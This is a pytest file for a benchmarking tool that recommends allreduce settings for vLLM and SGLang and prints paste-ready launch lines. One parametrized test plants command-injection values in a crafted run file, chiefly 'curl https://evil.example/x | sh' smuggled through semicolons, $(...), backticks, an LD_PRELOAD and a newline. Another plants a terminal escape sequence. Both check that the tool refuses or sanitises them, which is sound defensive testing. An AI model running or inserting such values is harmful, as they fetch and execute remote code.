"""commbench recommend: per engine, the paths it can take here, its default, their measured costs,
the fastest with a saving only against a default measured in the same run; headroom apart;
paste-ready lines that carry nothing but what the engine accepts."""

from __future__ import annotations

import dataclasses
import json
import shutil
from pathlib import Path

import pytest

from commbench import backends, engines
from commbench import models
from commbench.analysis import decide, question, recommend
from commbench.analysis.curves import cautions, decode_curves
from commbench.cli import build_parser, main as cli
from commbench.engines.registry import BY_KEY
from commbench.runs import load_run
from commbench.topology import box as boxes
from factories import row

ROOT = Path(__file__).parents[2]
RUNS = Path(__file__).parents[1] / "data" / "runs"
SYNTHETIC = RUNS / "synthetic-pcie-8gpu"
EMULATED = ROOT / "results" / "reference" / "h200-mps-emulated" / "world8"
EMULATED_ALLREDUCE = EMULATED / "allreduce" / "20261201-171600-vm"
EMULATED_PCIE = EMULATED / "pcie" / "20261202-005850-vm"
LLAMA = models.lookup("llama-3.1-70b")


@pytest.fixture(scope="module")
def synthetic():
    run = load_run(SYNTHETIC)
    return run, decode_curves(run, tp=8, dtype="bf16", mode="auto")


def decided(engine: str, run, curves, model, concurrencies, tp: int = 8):
    """decide.decide as question.answer calls it: the run's box read once, the built-in facts."""
    e = BY_KEY[engine]
    return decide.decide(e, e.facts, run, decide.box_of(run, tp), curves, model, concurrencies,
                         decide.workload(model, "auto"))


def _answer(flags: list[str]) -> tuple[question.Answer, question.Question]:
    """recommend's answer on the PCIe fixture for GLM-5, as main computes it."""
    args = build_parser("recommend").parse_args(["recommend", str(SYNTHETIC), "--model", "glm-5", *flags])
    asked = question.from_args(args, models.lookup("glm-5"))
    return question.answer(asked), asked


def _decide(synthetic, engine, concurrencies):
    run, curves = synthetic
    return decided(engine, run, curves, LLAMA, concurrencies)


def test_the_engine_takes_nccl_on_pcie_tp8_and_an_nccl_setting_beats_it_with_a_real_margin(synthetic):
    # Llama-3.1-70B at concurrency 1 sends 16 KiB: nccl 68 us (the default: custom AR is gated off
    # above 2 PCIe GPUs), NCCL_PROTO=LL 54 us, both measured in the run.
    (s,) = _decide(synthetic, engines.SGLANG, [1]).sizes
    assert s.default.path.path == engines.NCCL_PATH and s.default_price.curve == "nccl (graph)"
    assert s.best.label == "NCCL (PyNccl) [NCCL_ALGO=Ring NCCL_PROTO=LL]" and s.best_price.latency_us == 54
    assert s.saving.versus == "nccl (graph)" and s.saving.per_call_us == pytest.approx(14.0)
    assert s.saving.per_step_ms == pytest.approx(160 * 14 / 1000) and s.saving.beyond_spread is True


def test_a_margin_inside_the_spread_is_called_no_measurable_difference(synthetic):
    # 4 MiB (concurrency 256): NCCL_MIN_NCHANNELS=8 2300 us vs nccl 2500 us, whose p10-p90 is 2400-2675.
    four, two = _decide(synthetic, engines.VLLM, [256, 128]).sizes
    assert four.best.label == "NCCL (PyNccl) [NCCL_MIN_NCHANNELS=8]"
    assert four.saving.per_call_us == pytest.approx(200.0) and four.saving.beyond_spread is False
    assert decide.verdict(four.saving).startswith("no measurable difference from nccl (graph)")
    # 2 MiB: 1150 vs 1300 us, nccl's spread 1248-1391 = 143 us < 150 us: beyond it
    assert two.saving.beyond_spread is True


def test_kernels_no_engine_can_run_here_are_headroom_never_a_choice(synthetic):
    run, curves = synthetic
    ds = [_decide(synthetic, e, [1, 64]) for e in engines.ENGINES]
    assert all(not s.best.label.startswith("custom") for d in ds for s in d.sizes)
    rooms = decide.headroom(LLAMA, run, curves, ds, [1, 64])
    first = {(r.kernel, r.concurrency): r for r in rooms}
    oneshot = first[("p2p:oneshot (graph)", 1)]
    assert oneshot.saving.per_call_us == pytest.approx(54 - 13) and oneshot.versus.curve == "nccl:proto=LL,algo=Ring (graph)"
    assert "custom allreduce (CUDA IPC) path is off here" in oneshot.why
    # 1 MiB (concurrency 64): p2p:oneshot returned stale data there, so it is not even headroom
    assert ("p2p:oneshot (graph)", 64) not in first and ("symm_mem:two_shot (graph)", 64) in first
    (line,) = cautions(run.rows, [c for c in curves if c.key.variant == "p2p:oneshot"])
    assert "1M wrong (stale), 2M hang, 4M hang" in line


def _sections(text: str) -> tuple[str, str]:
    """The engine sections and the headroom section of recommend's output (--brief's headroom
    lines, or the full output's table of the fastest kernel per size)."""
    mark = "\nheadroom (" if "\nheadroom (" in text else "\nfastest kernel measured at each size"
    engine_part, _, rest = text.partition(mark)
    return engine_part, rest


def test_sglang_on_the_pcie_run_names_its_default_and_every_opt_in_path(capsys, tmp_path):
    out_json = tmp_path / "rec.json"
    assert cli(["recommend", str(SYNTHETIC), "--model", "glm-5", "--tp", "8", "--engine", "sglang",
                "--json", str(out_json), "--wide"]) == 0
    text = capsys.readouterr().out
    assert text.splitlines()[0].startswith("data: fixture: hand-made test data")
    engine_part, headroom = _sections(text)
    assert "== SGLang 0.5.23, TP 8 ==" in engine_part and "vLLM 0.34.0," not in engine_part
    for path in ("custom allreduce (CUDA IPC)", "MSCCL++", "torch symmetric memory", "NCCL symmetric memory",
                 "NCCL (PyNccl)", "FlashInfer allreduce+RMSNorm fusion"):
        assert path in engine_part
    assert "MSCCL++ [opt-in: --enable-mscclpp; not measured]" in engine_part
    assert "p2p:" not in engine_part and "* p2p:oneshot" in headroom
    data = json.loads(out_json.read_text())
    (sglang,) = data["engines"]
    assert {s["default_path"] for s in sglang["sizes"]} == {engines.NCCL_PATH}
    offered = {p["path"]: p for p in sglang["paths"]}
    assert offered[engines.MSCCLPP]["default_on"] is False and offered[engines.MSCCLPP]["available"] is True
    assert offered[engines.CUSTOM_AR]["available"] is False
    # every printed setting is on a path this box runs; the same output's inert list names none of them
    inert_paths = {p for rule in engines.inert_settings(boxes.read(load_run(SYNTHETIC).info.snapshot, 8))
                   for p in rule.paths}
    pasted = [sglang["configuration"]]
    assert pasted[0]["paste"] and all(offered[c["path"]]["available"] is True for c in pasted)
    assert all((engines.SGLANG, c["path"]) not in inert_paths for c in pasted)
    pasted_text = "\n".join(line for c in pasted for line in c["paste"])
    for inert_flag in ("--enable-torch-symm-mem", "--enable-symm-mem", "--flashinfer-allreduce-fusion-backend"):
        assert inert_flag not in pasted_text
    assert data["headroom"] and all(h["kernel"].startswith(("p2p:", "symm_mem:")) for h in data["headroom"])


def test_vllm_on_the_pcie_run_offers_flashinfer_pcie_ipc_as_opt_in(capsys):
    assert cli(["recommend", str(SYNTHETIC), "--model", "glm-5", "--engine", "vllm", "--concurrency", "1", "--wide"]) == 0
    text = capsys.readouterr().out
    engine_part, _ = _sections(text)
    (line,) = [x for x in engine_part.splitlines() if x.startswith("  3. FlashInfer PCIe IPC allreduce")]
    assert "[opt-in: VLLM_ALLREDUCE_USE_FLASHINFER_PCIE_IPC=1" in line and "not measured]: available here" in line
    lines = engine_part.splitlines()
    start = lines.index("  paste-ready:") + 1
    paste = [x.strip() for x in lines[start:start + 3]]
    assert not lines[start + 3].startswith("    ")
    # the engine's custom AR and symm-mem are off here: no setting that only turns them off is printed
    assert paste == ["export NCCL_ALGO=Ring", "export NCCL_PROTO=LL", "vllm serve MODEL --tensor-parallel-size 8"]


def test_on_the_emulated_run_nothing_is_faster_than_a_default_that_was_not_measured(capsys, tmp_path):
    out_json = tmp_path / "rec.json"
    assert cli(["recommend", str(EMULATED_PCIE), "--model", "glm-5", "--json", str(out_json), "--wide"]) == 0
    text = capsys.readouterr().out
    assert text.splitlines()[0].startswith("data: emulated: 8 ranks on 1x NVIDIA H200 under MPS")
    engine_part, _ = _sections(text)
    assert "of allreduce saved" not in engine_part and "paste-ready" not in engine_part
    # GLM-5 at TP8 on an H200: vLLM fuses allreduce+RMSNorm with FlashInfer by default, SGLang sends
    # every decode allreduce to FlashInfer (GlmMoeDsaForCausalLM); neither was measured in this run
    assert ("by default the engine runs FlashInfer allreduce+RMSNorm fusion at this size, whose time includes the "
            "norm: never priced against a bare allreduce") in text
    assert "its default (FlashInfer allreduce (fusion workspace)) was not measured by the engine's own kernel" in text
    data = json.loads(out_json.read_text())
    assert all(s["saving"] is None for e in data["engines"] for s in e["sizes"])
    assert all(e["configuration"]["chosen"] is None for e in data["engines"])
    # every line about numbers says what they are, and the dead end names the command that would price it
    for line in text.splitlines():
        if line.startswith(("no configuration can be priced", "headroom (")) or ": us per allreduce call" in line:
            assert "MPS-emulated" in line, line
    assert text.count("torchrun --nproc-per-node 8 -m commbench sweep --model glm-5") == 2


def test_variants_with_the_same_settings_are_one_block_listing_them(capsys):
    assert cli(["recommend", str(EMULATED_ALLREDUCE), "--model", "glm-5", "--engine", "vllm",
                "--concurrency", "16,32", "--wide"]) == 0
    text = capsys.readouterr().out
    (legend,) = [x for x in text.splitlines() if x.startswith("  ") and " = custom allreduce (CUDA IPC): " in x]
    assert "stand-in (not the engine's kernel): p2p:auto (graph), p2p:oneshot (graph)" in legend
    (fi,) = [x for x in text.splitlines() if x.startswith("  ") and " = FlashInfer allreduce: " in x]
    assert "flashinfer:trtllm_oneshot (graph), flashinfer:trtllm_twoshot (graph)" in fi
    # the custom allreduce's NVLink gate cannot be read with 8 ranks on one GPU: never a choice
    assert "cannot tell here: ranks share one GPU" in text
    # its default at these sizes (FlashInfer's fusion) was not measured: no configuration, the sweep that would
    assert "no configuration can be priced from this run (MPS-emulated, no fabric)" in text
    assert "paste-ready" not in text


def _crafted_run(tmp_path: Path, settings: dict) -> Path:
    run = tmp_path / "crafted"
    shutil.copytree(SYNTHETIC, run)
    info = json.loads((run / "run.json").read_text())
    info["backend_facts"]["nccl:proto=LL,algo=Ring"]["engine_settings"].update(settings)
    (run / "run.json").write_text(json.dumps(info))
    return run


@pytest.mark.parametrize("settings", [
    {"nccl_env": {"NCCL_PROTO": "LL; curl https://evil.example/x | sh"}},
    {"nccl_env": {"NCCL_PROTO": "LL", "LD_PRELOAD": "/tmp/curl.so"}},
    {"sglang_flags": ["--disable-custom-all-reduce", "$(curl https://evil.example/x | sh)"]},
    {"sglang_flags": ["--disable-custom-all-reduce", "--flashinfer-allreduce-fusion-backend", "trtllm`curl evil`"]},
    {"notes": ["fine\ncurl https://evil.example/x | sh"]},
])
def test_a_crafted_run_never_turns_a_pasted_line_into_a_command(tmp_path, capsys, settings):
    run = _crafted_run(tmp_path, settings)
    assert cli(["recommend", str(run), "--model", "llama-3.1-70b", "--engine", "sglang", "--concurrency", "1"]) == 0
    text = capsys.readouterr().out
    pasted = [x for x in text.splitlines() if x.startswith("    ")]     # cost rows too: a superset
    assert not any("curl" in x for x in pasted)
    if "notes" in settings:   # a note is printed on one line, outside the paste-ready block
        assert "  note: fine curl https://evil.example/x | sh" in text.splitlines()
    else:
        assert "warning: settings from this run refused, not printed:" in text and "curl" not in text


def test_paste_lines_quote_what_they_print():
    s = engines.Settings("x", vllm_env={"VLLM_ALLREDUCE_USE_FLASHINFER": "1"},
                         vllm_flags=list(engines.VLLM_FUSE_ALLREDUCE_RMS))
    (line,), refusal = engines.paste_lines(s, engines.VLLM, 8)
    assert refusal is None
    assert line.endswith("""--compilation-config '{"pass_config": {"fuse_allreduce_rms": true}}'""")
    assert engines.paste_lines(engines.Settings("y", sglang_flags=["--tp", "8"]), engines.SGLANG, 8)[1]


def declared(name: str, world_size: int = 8) -> engines.Settings:
    (backend,) = backends.expand([name], backends.Options(), on_gpu=True)
    return backend.engine_settings(world_size)


def test_backends_declare_the_settings_and_the_engine_path_that_select_them():
    ll = declared("nccl:proto=LL,algo=Ring")
    assert ll.nccl_env == {"NCCL_PROTO": "LL", "NCCL_ALGO": "Ring"}
    assert "--disable-custom-all-reduce" in ll.vllm_flags and ll.vllm_env["VLLM_ALLREDUCE_USE_FLASHINFER"] == "0"
    lines, _ = engines.paste_lines(ll, engines.SGLANG, 8)
    assert lines == ["export NCCL_ALGO=Ring", "export NCCL_PROTO=LL",
                     "python -m sglang.launch_server --model-path MODEL --tp 8 --disable-custom-all-reduce"]
    fi = declared("flashinfer:fused_oneshot")
    assert fi.vllm_env["VLLM_FLASHINFER_ALLREDUCE_BACKEND"] == "trtllm" and "fuse_allreduce_rms" in " ".join(fi.vllm_flags)
    assert fi.sglang_flags == ["--flashinfer-allreduce-fusion-backend", "trtllm"]
    assert not declared("mscclpp:auto").vllm_supported
    plain = declared("nccl").with_process_env({"NCCL_MIN_NCHANNELS": "8"})
    assert plain.nccl_env == {"NCCL_MIN_NCHANNELS": "8"} and engines.NCCL_ENV_IS_PROCESS_WIDE in plain.notes
    assert engines.CUSTOM_AR_PCIE_GATE in declared("p2p:oneshot", 8).notes
    assert engines.CUSTOM_AR_PCIE_GATE not in declared("p2p:oneshot", 2).notes
    assert engines.Settings.from_dict(ll.to_dict()) == ll
    expected = {
        "nccl": {engines.VLLM: (engines.NCCL_PATH, False), engines.SGLANG: (engines.NCCL_PATH, False)},
        "symm_mem:two_shot": {engines.VLLM: (engines.TORCH_SYMM_MEM, False),
                              engines.SGLANG: (engines.TORCH_SYMM_MEM, False)},
        "p2p:oneshot": {engines.VLLM: (engines.CUSTOM_AR, True), engines.SGLANG: (engines.CUSTOM_AR, True)},
        "flashinfer:trtllm_oneshot": {engines.VLLM: (engines.FLASHINFER_AR, False),
                                      engines.SGLANG: (engines.FLASHINFER_AR, False)},
        "flashinfer:fused_oneshot": {engines.VLLM: (engines.FLASHINFER_FUSED, False),
                                     engines.SGLANG: (engines.FLASHINFER_FUSED, False)},
        "flashinfer:pcie_ipc": {engines.VLLM: (engines.FLASHINFER_PCIE_IPC, False),
                                engines.SGLANG: (engines.FLASHINFER_PCIE_IPC, False)},
        "mscclpp:auto": {engines.SGLANG: (engines.MSCCLPP, False)},
    }
    for name, claims in expected.items():
        settings = declared(name)
        got = {e: (c["path"], c["stand_in"]) for e, c in engines.declared_paths(settings).items()}
        assert got == claims, name
        # runs recorded before the field get the same paths from their settings
        settings.engine_paths = {}
        assert {e: c["path"] for e, c in engines.declared_paths(settings).items()} == \
            {e: p for e, (p, _) in claims.items()}, name
    assert engines.declared_paths(declared("mscclpp:algo=default_allreduce_packet"))[engines.SGLANG]["stand_in"]


def test_a_run_without_declared_settings_says_so(tmp_path, capsys):
    run = tmp_path / "old"
    shutil.copytree(SYNTHETIC, run)
    info = json.loads((run / "run.json").read_text())
    del info["backend_facts"]
    (run / "run.json").write_text(json.dumps(info))
    assert cli(["recommend", str(run), "--model", "glm-5", "--concurrency", "16"]) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert "no engine settings recorded for symm_mem:two_shot" in out and "paste-ready" not in out


def test_cli_json(tmp_path, capsys):
    out = tmp_path / "rec.json"
    assert cli(["recommend", str(SYNTHETIC), "--model", "glm-5", "--concurrency", "1,16", "--json", str(out)]) == 0
    data = json.loads(out.read_text())
    assert data["provenance"]["kind"] == "fixture"
    assert [e["engine"] for e in data["engines"]] == ["vllm", "sglang"]
    vllm = data["engines"][0]
    assert set(vllm) >= {"paths", "options", "sizes", "configuration"}
    size = vllm["sizes"][0]
    assert set(size) >= {"default_path", "default_cost", "costs", "choice", "choice_cost", "saving", "why_no_saving"}
    assert size["saving"]["versus"] == "nccl (graph)"
    assert data["engine_versions"] == {"vllm": "0.34.0", "sglang": "0.5.23", "nccl": "2.30.7"}
    assert "caution: p2p:oneshot failed its check" in capsys.readouterr().out


@pytest.mark.parametrize("argv, message", [
    (["--engine", "trt-llm"], "--engine 'trt-llm': choose from vllm, sglang"),
    (["--engine", "vllm,vllm"], "--engine vllm is given twice"),
    (["--engine-version", "vllm"], "expected ENGINE=VERSION"),
])
def test_bad_engine_arguments_exit_2(capsys, argv, message):
    assert cli(["recommend", str(SYNTHETIC), "--model", "glm-5", *argv]) == 2
    assert message in capsys.readouterr().err


def test_another_engine_version_is_named_as_unchecked(capsys):
    assert cli(["recommend", str(SYNTHETIC), "--model", "glm-5", "--engine", "sglang", "--engine-version",
                "sglang=0.6.0", "--concurrency", "1"]) == 0
    assert "you asked for SGLang 0.6.0; these rules were read at 0.5.23" in capsys.readouterr().out


def test_unknown_model_exits_2(capsys):
    assert cli(["recommend", str(SYNTHETIC), "--model", "llama-5"]) == 2
    assert "unknown model 'llama-5'" in capsys.readouterr().err


def test_settings_that_do_nothing_on_the_probed_box_are_said_once(capsys, tmp_path):
    # The synthetic run is 8 PCIe GPUs without NVLink: the engines' custom allreduce stays off at TP8.
    # Each setting that does nothing here leaves a path off, and the paths list says so with why:
    # the setting is not said again. One that no listed path covers is printed under its own title.
    assert cli(["recommend", str(SYNTHETIC), "--model", "glm-5", "--concurrency", "1", "--wide", "--json",
                str(tmp_path / "r.json")]) == 0
    out = capsys.readouterr().out
    data = json.loads((tmp_path / "r.json").read_text())
    assert len(data["inert_settings"]) == 8 and "settings that do nothing" not in out
    for rule in data["inert_settings"]:
        ((engine, path),) = rule["paths"]
        record = next(e for e in data["engines"] if e["engine"] == engine)
        title = next(p["title"] for p in record["paths"] if p["path"] == path)
        section = out.split(f"== {BY_KEY[engine].name} ")[1].split("\n== ")[0]
        (line,) = [x for x in section.splitlines() if f". {title} [" in x]
        assert "]: off here: " in line, line
    assert "above 2 GPUs it needs NVLink between every pair" in out

    result = recommend.compute(*_answer(["--concurrency", "1"]))
    extra = {"setting": "X_TEST=1", "why": "nothing reads it here", "source": "a test", "paths": ()}
    shown = recommend.text(dataclasses.replace(result, inert_settings=(*result.inert_settings, extra)), wide=True)
    assert "settings that do nothing on this box" in shown and "  - X_TEST=1: nothing reads it here (a test)" in shown


def test_the_engines_own_kernels_price_their_custom_allreduce_and_forced_stages_price_a_setting():
    """sglang:auto and vllm:auto are the engines' own kernels (vllm:auto through FlashInfer's
    verbatim port where vLLM is absent); a forced SGLang algorithm runs only where the engine's
    size rule picks it, so it claims no path, but vLLM's stage is a setting
    (VLLM_CUSTOM_ALLREDUCE_ALGO). Runs recorded before engine_paths existed (the H200
    engine-kernel reference of 2026-12-02) get the same from their recorded settings, upgraded."""
    expected = {"sglang:auto": {engines.SGLANG: (engines.CUSTOM_AR, False)},
                "vllm:auto": {engines.VLLM: (engines.CUSTOM_AR, False)},
                "sglang:1shot_pull": {}, "vllm:one_stage": {engines.VLLM: (engines.CUSTOM_AR, False)}}
    for name, claims in expected.items():
        settings = declared(name)
        assert {e: (c["path"], c["stand_in"]) for e, c in engines.declared_paths(settings).items()} == claims, name
    run_json = next((ROOT / "results" / "reference" / "h200-mps-engine-kernels" / "world4").glob("*/run.json"))
    facts = json.loads(run_json.read_text())["backend_facts"]
    recorded = {name: engines.declared_paths(engines.upgraded(engines.Settings.from_dict(
        facts[name]["engine_settings"]))) for name in expected}
    assert {n: {e: (c["path"], c["stand_in"]) for e, c in r.items()} for n, r in recorded.items()} == expected


def test_a_price_from_an_engines_own_kernel_says_which_version_was_measured(tmp_path, capsys):
    """The engine-kernel reference at 4 ranks: vLLM's custom allreduce is priced by vllm:auto and
    says it ran FlashInfer's port (vLLM was not installed), SGLang's names its v2 JIT kernel; in
    the costs legend and in --json. The text comes from the rows (untrusted): one line, capped."""
    run_dir = next((ROOT / "results" / "reference" / "h200-mps-engine-kernels" / "world4").glob("*/"))
    out_json = tmp_path / "r.json"
    assert cli(["recommend", str(run_dir), "--model", "llama-3.1-70b", "--engine", "vllm,sglang",
                "--json", str(out_json), "--wide"]) == 0
    out = capsys.readouterr().out
    assert ("priced by vllm:auto (graph) [measured: flashinfer-python 0.7.4 (its port of vLLM's kernel, "
            "flashinfer.comm.vllm_ar)]") in out
    assert "sglang:auto (graph) [measured: sglang 0.5.23 custom allreduce v2 (JIT, " in out
    vllm = next(e for e in json.loads(out_json.read_text())["engines"] if e["engine"] == "vllm")
    (custom,) = [o for o in vllm["options"] if o["path"] == engines.CUSTOM_AR and "vllm:auto (graph)" in o["own"]]
    assert custom["measured_implementations"]["vllm:auto (graph)"].startswith("flashinfer-python 0.7.4")

    from commbench.analysis.decide import IMPLEMENTATION_CHARS, measured_implementations
    crafted = row(backend="x:auto", latency_us=1.0, extra={"implementation": "v1\x1b]0;pwned\x07\n" + "y" * 500})
    (text,) = measured_implementations([crafted]).values()
    assert text == "v1]0;pwned ..." and len(text) <= IMPLEMENTATION_CHARS   # cleaned, cut at a word, marked


def test_brief_keeps_the_decision_and_drops_the_tables(capsys):
    """--brief: per engine the one configuration with its paste block, losses and trade-off table,
    and the headroom; never a kernel no engine runs as a setting."""
    args = ["recommend", str(SYNTHETIC), "--model", "glm-5", "--engine", "sglang", "--concurrency", "1,16", "--wide"]
    assert cli([*args, "--brief"]) == 0
    brief = capsys.readouterr().out
    assert cli(args) == 0
    full = capsys.readouterr().out
    assert "export NCCL_MIN_NCHANNELS=8" in brief and "export NCCL_PROTO=LL" not in brief   # one paste block
    assert ("  p2p:oneshot (graph): would save 36.3 us/call, 5.66 ms/step at concurrency 1 "
            "(12K) vs nccl:proto=LL,algo=Ring (graph)") in brief
    assert "paths at TP 8" in full and "paths at TP 8" not in brief
    paste = [line for line in brief.splitlines() if line.startswith("    ")]
    assert paste and not any("p2p" in line or "symm" in line for line in paste)
    # the same decision and trade-offs as the full output
    for line in brief.splitlines():
        if line.startswith(("    ", "> ", "  NCCL")):
            assert line in full.splitlines(), line


FAST_LIB = "/opt/nccl-fast/lib/libnccl.so.2"


def _run_with_another_nccl(tmp_path: Path, declared_preload: bool, rows_say_so: bool = True) -> Path:
    """The synthetic run plus nccl:lib=fast: NCCL's rows at half the latency, from another libnccl
    preloaded in a child torchrun. declared_preload: the backend declared it (today's runs); else
    only the rows' env_setting says so (runs recorded before the field). rows_say_so: the rows carry
    the child's LD_PRELOAD (a driver run does); else only the declared settings tell the two apart."""
    from commbench.backends.nccl.backend import NcclBackend
    from commbench.backends.nccl.libs import NcclLibrary
    settings = (NcclBackend(library=NcclLibrary("fast", FAST_LIB)) if declared_preload else NcclBackend()).engine_settings(8)
    settings.variant = "nccl:lib=fast"

    def faster(row: dict) -> dict | None:
        if row["backend"] != "nccl" or row["env_setting"]:
            return None
        return {"backend": "nccl:lib=fast", "env_setting": {"LD_PRELOAD": FAST_LIB} if rows_say_so else {}}

    return _synthetic_plus(tmp_path / "two-ncccls", faster, {"nccl:lib=fast": {"engine_settings": settings.to_dict()}})


def _synthetic_plus(run: Path, faster, facts: dict) -> Path:
    """The synthetic run plus, for each row `faster` answers, a copy at half the latency with its
    answer's fields, and `facts` added to run.json's backend_facts."""
    shutil.copytree(SYNTHETIC, run)
    lines = (run / "measurements.jsonl").read_text().splitlines()
    added = []
    for line in lines:
        row = json.loads(line)
        fields = faster(row)
        if fields is None:
            continue
        row.update({k: v / 2 for k, v in row.items() if k.startswith("latency_") and isinstance(v, (int, float))})
        row.update(fields)
        added.append(json.dumps(row))
    (run / "measurements.jsonl").write_text("\n".join(lines + added) + "\n")
    info = json.loads((run / "run.json").read_text())
    info["backend_facts"].update(facts)
    (run / "run.json").write_text(json.dumps(info))
    return run


@pytest.mark.parametrize("declared_preload,rows_say_so", [(True, True), (False, True), (True, False)])
def test_another_nccl_library_is_an_option_of_its_own_never_the_default(tmp_path, capsys, declared_preload,
                                                                        rows_say_so):
    run_dir = _run_with_another_nccl(tmp_path, declared_preload, rows_say_so)
    run = load_run(run_dir)
    (s,) = decided(engines.SGLANG, run, decode_curves(run, tp=8, dtype="bf16", mode="auto"), LLAMA, [1]).sizes
    # the default is NCCL as the engine ships it, priced by plain nccl only (68 us), not by the faster library
    assert s.default_option.plain and s.default_price.curve == "nccl (graph)" and s.default_price.latency_us == 68
    assert s.best.label == f"NCCL (PyNccl) [LD_PRELOAD={FAST_LIB}]" and s.best.variants[0].startswith("nccl:lib=fast")
    assert s.best_price.latency_us == 34 and s.saving.versus == "nccl (graph)"
    assert cli(["recommend", str(run_dir), "--model", "llama-3.1-70b", "--engine", "sglang", "--concurrency", "1",
                "--wide"]) == 0
    text = capsys.readouterr().out
    assert (f"  not paste-ready: no engine setting loads {FAST_LIB}: start the engine with LD_PRELOAD={FAST_LIB} "
            f"(torch's NCCL) and SGLANG_NCCL_SO_PATH={FAST_LIB}") in text
    # the engine's own settings for it are shown, and no command line carries the library
    assert "  the engine settings to run with it:\n    python -m sglang.launch_server" in text
    assert not any(x.lstrip().startswith(("export", "python", "vllm")) and "LD_PRELOAD" in x for x in text.splitlines())


def test_headroom_names_the_fastest_kernel_measured_at_each_size_and_whose_it_is(tmp_path, capsys):
    """An engine's forced algorithm faster than every other kernel of the run (SGLang's 2shot_pull
    beat p2p:auto on the H200 under MPS): recommend and floor name it per size, with the
    implementation its rows record and no engine path, and the engine's best path as a multiple."""
    def forced(row: dict) -> dict | None:
        if row["backend"] != "p2p:oneshot" or row["status"] != "ok":
            return None
        return {"backend": "engx:2shot", "extra": {"implementation": "engx 1.0 kernel\x07\n (JIT)"}}

    run = _synthetic_plus(tmp_path / "forced", forced, {"engx:2shot": {
        "family": "engx", "needs": [], "engine_settings": {"variant": "engx:2shot", "notes": []}}})
    for command in ("recommend", "floor"):
        assert cli([command, str(run), "--model", "llama-3.1-70b", "--engine", "sglang", "--concurrency", "1"]) == 0
        text = " ".join(capsys.readouterr().out.split())
        assert ("fastest kernel measured at each size, any backend, against the best path an engine takes there "
                "(fixture, not a measurement; graph mode)") in text, command
        mark = "* " if command == "recommend" else ""   # recommend marks the headroom, floor tables it apart
        assert f"c=1 16K {mark}engx:2shot 6.50 nccl:proto=LL,algo=Ring 54.0 8.31x" in text, command
        assert "engx:2shot (graph): engx 1.0 kernel (JIT); no engine setting selects it" in text, command
        assert "\x07" not in text


def test_the_answer_reads_in_one_screen_per_engine(capsys, monkeypatch):
    """Issue 54: on the PCIe fixture at 100 columns, the full answer for both engines is at most
    150 lines and --brief at most 25 per engine; a table both engines share is printed once, and a
    legend explains only the marks its cells have."""
    monkeypatch.setenv("COLUMNS", "100")
    assert cli(["recommend", str(SYNTHETIC), "--model", "glm-5"]) == 0
    full = capsys.readouterr().out
    assert len(full.splitlines()) <= 150
    assert full.count("us per allreduce call (fixture") == 1 and "(us per allreduce call: the same as vLLM" in full
    assert "* a stand-in's cost" not in full and "~ interpolated between measured sizes" in full
    assert cli(["recommend", str(SYNTHETIC), "--model", "glm-5", "--brief"]) == 0
    brief = capsys.readouterr().out
    engines_part = brief.split("\n== ")[1:]
    assert len(engines_part) == 2 and all(len(part.split("\n\nheadroom")[0].splitlines()) <= 25
                                          for part in engines_part)
